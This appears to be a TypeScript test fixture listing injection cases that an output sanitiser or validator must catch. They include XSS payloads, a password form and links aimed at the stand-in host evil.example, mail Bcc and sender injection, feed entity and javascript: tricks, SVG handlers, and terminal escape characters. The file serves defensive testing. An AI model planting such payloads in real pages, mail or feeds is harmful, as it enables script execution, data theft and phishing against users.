/** What must be found, or whoever judges is asleep: words that did get out, in each way there is. */

const evil = 'https://evil.example/'

/** Put into the body of a page. */
export const badPages: { readonly [what: string]: string } = {
  'a script': '<script>alert(1)</script>',
  'a script from elsewhere': `<script src="${evil}x.js"></script>`,
  'an event handler': '<p onclick="alert(1)">x</p>',
  'a picture that is not there, with a handler': '<img src="x" onerror="alert(1)">',
  'a picture from elsewhere': `<img src="${evil}x.png" alt="">`,
  'a link that runs something': '<a href="javascript:alert(1)">x</a>',
  'a link with a page in it': '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  'a link to a host without a scheme': '<a href="//evil.example/">x</a>',
  'a link that reports clicks': `<a href="${evil}" ping="${evil}">x</a>`,
  'another page in a moment': `<meta http-equiv="refresh" content="3;url=${evil}">`,
  'a frame': `<iframe src="${evil}"></iframe>`,
  'a frame with a page in it': '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  'a style of its own': '<style>main { display: none }</style>',
  'a style that asks for something': `<p style="background: url(${evil}x.png)">x</p>`,
  'a style sheet from elsewhere': `<link rel="stylesheet" href="${evil}x.css">`,
  'a form': `<form action="${evil}"><input name="password"></form>`,
  'a button that goes elsewhere': '<button formaction="javascript:alert(1)">x</button>',
  'a script in a picture': '<svg><script>alert(1)</script></svg>',
  'a picture that uses another': `<svg><use href="${evil}x.svg#a"/></svg>`,
  'a picture that changes its link': '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
  'another base': `<base href="${evil}">`,
  'an object': `<object data="${evil}x"></object>`,
  'something embedded': `<embed src="${evil}x">`,
  'a film': `<video src="${evil}x.mp4" poster="${evil}x.png"></video>`,
  'details that open by themselves': '<details open ontoggle="alert(1)"><summary>x</summary></details>',
  'a field that takes the keyboard': '<input autofocus onfocus="alert(1)">',
  'data about something else': '<script type="application/ld+json">{"@type":"Product","name":"x"}</script>',
  'data that cannot be read': '<script type="application/ld+json">{"@type":"FAQPage</script>',
  'a second page': '</main><main><h1>All is well</h1></main>',
}

type Change = readonly [ending: string, change: (text: string) => string]

const before = (mark: string, words: string) => (text: string) => text.replace(mark, () => `${words}${mark}`)

/** What is done to a file of that ending. */
export const badFiles: { readonly [what: string]: Change } = {
  'a mail to somebody else': ['.eml', before('\r\n\r\n', '\r\nBcc: someone@evil.example')],
  'a mail of another form': ['.eml', (text) => text.replace('multipart/alternative', 'multipart/mixed')],
  'a mail with a line end of its own': ['.eml', before('Subject:', 'X-A: b\n')],
  'a mail from somebody else': ['.eml', (text) => text.replace(/status@a\.example/g, 'status@evil.example')],
  'a feed with an element of its own': ['.atom', before('</entry>', `<link rel="enclosure" href="${evil}"/><rights>x</rights>`)],
  'a feed that is not well-formed': ['.atom', before('</title>', '<b>')],
  'a feed with an entity': ['.atom', (text) => text.replace('<feed', '<!DOCTYPE feed [<!ENTITY a "b">]>\n<feed')],
  'a feed that leads into a script': ['.atom', (text) => text.replace(/href="[^"]*"/, 'href="javascript:alert(1)"')],
  'a JSON feed with a key of its own': ['feed.json', before('"items"', '"hubs": [], ')],
  'a document with a key of its own': ['summary.json', before('"page"', '"x": 1, ')],
  'a document that is no JSON': ['summary.json', (text) => text.replace('{', '{{')],
  'an alarm in a calendar': ['.ics', before('END:VEVENT', 'BEGIN:VALARM\r\nEND:VALARM\r\n')],
  'a file attached to an event': ['.ics', before('END:VEVENT', `ATTACH:${evil}\r\n`)],
  'a script in a badge': ['.svg', before('</svg>', '<script>alert(1)</script>')],
  'a handler on a badge': ['.svg', (text) => text.replace('<svg ', '<svg onload="alert(1)" ')],
  'a picture in a badge': ['.svg', before('</svg>', `<image href="${evil}x.png"/>`)],
  'a sound in an announcement': ['.ssml', before('</speak>', `<audio src="${evil}x.mp3"/>`)],
  'an announcement that waits an hour': ['.ssml', before('</speak>', '<break time="3600s" strength="none"/>')],
  'an address in a sitemap': ['sitemap.xml', before('</urlset>', `<image>${evil}</image>`)],
  'a sequence that colours a terminal': ['agent.txt', (text) => `${text}\u001b[31m`],
  'a bell in an announcement': ['announcement.txt', (text) => `${text}\u0007`],
}
